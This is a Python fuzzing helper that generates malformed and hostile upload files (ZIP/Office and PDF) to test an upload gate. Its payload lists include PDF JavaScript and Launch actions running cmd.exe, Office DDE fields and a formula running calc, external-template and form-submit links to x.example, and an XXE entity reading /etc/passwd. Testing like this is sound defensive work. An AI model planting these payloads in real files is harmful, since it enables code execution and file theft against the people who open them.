"""
Files as someone would send them who wants to get something past the gate.

Each number makes one file, always the same. It begins as a file of the seeds, fit or not, and is
then damaged blindly (bits, cuts, copies, heads of other kinds), by someone who knows ZIP, or by
someone who knows what acts.
"""

from __future__ import annotations

import re
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO
from random import Random

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.uploads import seeds

Change = Callable[[bytes, Random], bytes]

HEADS = (b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"PK\x03\x04", b"MZ\x90\x00")
ACTIVE = (
    b"<script>alert(1)</script>",
    b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    b"/AA << /O << /S /Launch /F (cmd.exe) >> >>",
    b"/J#53 (a()) /S /J#61vaScript",
    b"/EmbeddedFile",
    b"/Names << /EmbeddedFiles << /Names [] >> >>",
    b'<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe </w:instrText>',
    b'<w:fldSimple w:instr=" DDE cmd x "/>',
    b"<f>cmd|'/c calc'!A0</f>",
    b'<Relationship Id="rIdX" Type="http://x/attachedTemplate" Target="http://x.example/a"'
    b' TargetMode="External"/>',
    b'<Override PartName="/word/vbaProject.bin"'
    b' ContentType="application/vnd.ms-office.vbaProject"/>',
    b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    b'<w:control r:id="rId1"/><o:OLEObject/>',
    b"\xff\xe1\x00\x10Exif\0\0MM\0*\0\0\0\x08",
    b"\0\0\0\x04tEXtabcd\x00\x00\x00\x00",
    seeds.EICAR,
)


@cache
def corpus() -> tuple[bytes, ...]:
    honest = tuple(seeds.fit().values())
    acting = tuple(seeds.acting_pdf(n, packed=p) for n in seeds.ACTING_PDF for p in (False, True))
    office = tuple(plain for plain, _ in seeds.acting_office().values())
    archives = tuple(plain for plain, _ in seeds.tampered_archives().values())
    # What is honest is nearest to passing: most of the work is done to it.
    return honest * 6 + acting + office + archives


def file(number: int) -> bytes:
    """Return the file of this number."""
    random = Random(number)  # noqa: S311
    plain = random.choice(corpus())
    for _ in range(random.choice((0, 1, 1, 1, 2, 3))):
        plain = random.choice(_changes(plain))(plain, random)
    return plain


def _changes(plain: bytes) -> tuple[Change, ...]:
    known: tuple[Change, ...] = ()
    if plain.startswith(b"PK\x03\x04"):
        known = (within_a_part, within_a_part, another_part, renamed, rewritten_head)
    elif plain.startswith(b"%PDF-"):
        known = (acting_object, acting_object, within_a_stream, misspelt)
    return (bits, cut, copied, spliced, inserted, other_head, behind, *known, *known)


# --- blind --------------------------------------------------------------------------------------


def _somewhere(plain: bytes, random: Random) -> int:
    return random.randrange(len(plain) + 1)


def bits(plain: bytes, random: Random) -> bytes:
    changed = bytearray(plain)
    for _ in range(random.choice((1, 1, 2, 8, 64)) if changed else 0):
        changed[random.randrange(len(changed))] ^= 1 << random.randrange(8)
    return bytes(changed)


def cut(plain: bytes, random: Random) -> bytes:
    at = _somewhere(plain, random)
    return plain[:at] if random.random() < 0.6 else plain[at:]


def copied(plain: bytes, random: Random) -> bytes:
    """Repeat a piece of the file at another place of it."""
    begins = _somewhere(plain, random)
    piece = plain[begins : begins + random.choice((4, 30, 200, 2000))]
    at = _somewhere(plain, random)
    return plain[:at] + piece * random.choice((1, 1, 2, 20)) + plain[at:]


def spliced(plain: bytes, random: Random) -> bytes:
    """Begin as this file and end as another."""
    other = random.choice(corpus())
    return plain[: _somewhere(plain, random)] + other[_somewhere(other, random) :]


def inserted(plain: bytes, random: Random) -> bytes:
    at = _somewhere(plain, random)
    return plain[:at] + random.choice(ACTIVE) + plain[at:]


def other_head(plain: bytes, random: Random) -> bytes:
    head = random.choice(HEADS)
    return head + (plain if random.random() < 0.5 else plain[len(head) :])


def behind(plain: bytes, random: Random) -> bytes:
    return plain + random.choice((random.choice(corpus()), random.choice(ACTIVE), b"\0" * 99))


# --- by someone who knows ZIP --------------------------------------------------------------------


def _parts(plain: bytes) -> dict[str, bytes]:
    try:
        with zipfile.ZipFile(BytesIO(plain)) as package:
            listed = package.infolist()
            if len(listed) > 100 or sum(entry.file_size for entry in listed) > 10_000_000:
                return {}  # Packed anew, it would take longer than a hundred others.
            return {name: package.read(name) for name in package.namelist()}
    except (zipfile.BadZipFile, zlib.error, NotImplementedError, OSError, RuntimeError, ValueError):
        return {}
    except (KeyError, EOFError, IndexError):
        return {}


def _with(plain: bytes, random: Random, change: Callable[[dict[str, bytes], str], None]) -> bytes:
    parts = _parts(plain)
    if not parts:
        return bits(plain, random)
    change(parts, random.choice(sorted(parts)))
    method = random.choice((zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED))
    return seeds.package(parts, method)


def within_a_part(plain: bytes, random: Random) -> bytes:
    """Change one part, and pack the file as it should be packed."""

    def change(parts: dict[str, bytes], name: str) -> None:
        if random.random() < 0.5:
            parts[name] = random.choice((bits, cut, copied, inserted))(parts[name], random)
        else:  # between two elements, where it counts
            places = [found.end() for found in re.finditer(b">", parts[name])]
            at = random.choice(places) if places else 0
            parts[name] = parts[name][:at] + random.choice(ACTIVE) + parts[name][at:]

    return _with(plain, random, change)


def another_part(plain: bytes, random: Random) -> bytes:
    def change(parts: dict[str, bytes], name: str) -> None:
        called = ("word/vbaProject.bin", "../a.xml", "word/a.xml", "xl/a.bin", "word/media/a.png")
        held = (parts[name], b"MZ\x90", b"\xd0\xcf\x11\xe0" * 99, seeds.pdf(), seeds.docx())
        parts[random.choice(called)] = random.choice(held)

    return _with(plain, random, change)


def renamed(plain: bytes, random: Random) -> bytes:
    def change(parts: dict[str, bytes], name: str) -> None:
        endings = (".bin", ".exe", ".xml", ".rels", ".png", ".vml", "/../a")
        parts[name.rpartition(".")[0] + random.choice(endings)] = parts.pop(name)

    return _with(plain, random, change)


def rewritten_head(plain: bytes, random: Random) -> bytes:
    """Change a number in one of the heads: of a part, of the directory, of its end."""
    mark = random.choice((b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"))
    places = [found.start() for found in re.finditer(re.escape(mark), plain)]
    if not places:
        return bits(plain, random)
    at = random.choice(places) + 4 + random.randrange(42)
    return plain[:at] + random.randbytes(random.choice((1, 2, 4))) + plain[at:][4:]


# --- by someone who knows PDF --------------------------------------------------------------------

ACTIONS = (
    lambda: Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")),
    lambda: Dictionary(S=Name.Launch, F=String("cmd.exe")),
    lambda: Dictionary(S=Name.SubmitForm, F=String("http://x.example/")),
    lambda: Dictionary(S=Name.GoToR, F=String("//server/a.pdf")),
    lambda: Dictionary(S=Name.URI, URI=String("file:///c:/a.exe")),
    lambda: Dictionary(S=Name.ImportData, F=String("a.fdf")),
    lambda: Dictionary(Type=Name.Filespec, EF=Dictionary()),
    lambda: Dictionary(Subtype=Name.RichMedia),
    lambda: Dictionary(S=Name.GoTo, Next=Dictionary(S=Name.JavaScript, JS=String("a()"))),
    lambda: Dictionary(XFA=String("<xdp/>")),
)
PLACES = ("OpenAction", "AA", "A", "Names", "Next", "Custom", "Outlines", "AcroForm", "PieceInfo")


def acting_object(plain: bytes, random: Random) -> bytes:
    """Hang something that acts on any object of the document, within an array or not."""
    try:
        with pikepdf.open(BytesIO(plain), suppress_warnings=True) as document:
            hosts = [o for o in document.objects if isinstance(o, pikepdf.Dictionary)]
            host = random.choice([document.Root, document.pages[0].obj, *hosts])
            action: Array | Dictionary = random.choice(ACTIONS)()
            for _ in range(random.choice((0, 0, 1, 3))):
                action = random.choice((Array([action]), Dictionary(Kids=action)))
            if random.random() < 0.5:
                action = document.make_indirect(action)
            host[f"/{random.choice(PLACES)}"] = action
            written = BytesIO()
            mode = random.choice(list(pikepdf.ObjectStreamMode.__members__.values()))
            document.save(
                written, object_stream_mode=mode, static_id=True, fix_metadata_version=False
            )
            return written.getvalue()
    except (pikepdf.PdfError, pikepdf.PasswordError, ValueError, KeyError, TypeError):
        return bits(plain, random)
    except (AttributeError, IndexError, RuntimeError):
        return bits(plain, random)


def within_a_stream(plain: bytes, random: Random) -> bytes:
    """Unpack one stream, change it, and pack it again in place."""
    at = plain.find(b"stream\n", _somewhere(plain, random))
    ends = plain.find(b"endstream", at)
    if at < 0 or ends < 0:
        return bits(plain, random)
    try:
        said = zlib.decompressobj().decompress(plain[at + 7 : ends], 1_000_000)
    except zlib.error:
        said = plain[at + 7 : ends]
    changed = random.choice((bits, inserted, copied))(said, random)
    return plain[: at + 7] + zlib.compress(changed) + plain[ends:]


def misspelt(plain: bytes, random: Random) -> bytes:
    """Write a name in numbers."""
    names = [found.end() for found in re.finditer(b"/(?=.)", plain)]
    if not names:
        return bits(plain, random)
    at = random.choice(names)
    return plain[:at] + b"#%02x" % plain[at] + plain[at + 1 :]
